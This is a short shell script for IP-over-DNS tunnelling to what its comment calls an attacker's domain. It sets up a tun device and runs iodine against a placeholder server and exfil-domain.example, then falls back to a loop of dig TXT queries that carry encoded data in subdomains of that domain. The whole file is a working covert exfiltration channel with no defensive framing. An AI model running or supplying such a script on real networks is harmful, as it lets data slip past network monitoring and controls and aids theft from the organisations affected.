#!/bin/sh
# IP over DNS to a domain of the attacker's.
mkdir -p /dev/net
[ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200
iodine -f -P secret -T TXT 203.0.113.53 t.exfil-domain.example
# without a tun device: the same by hand
i=0
while [ $i -lt 80 ]; do
  dig +tries=1 +time=1 TXT "$(head -c 30 /dev/urandom | base64 | tr -dc a-z0-9).$i.t.exfil-domain.example" >/dev/null
  i=$((i + 1))
done
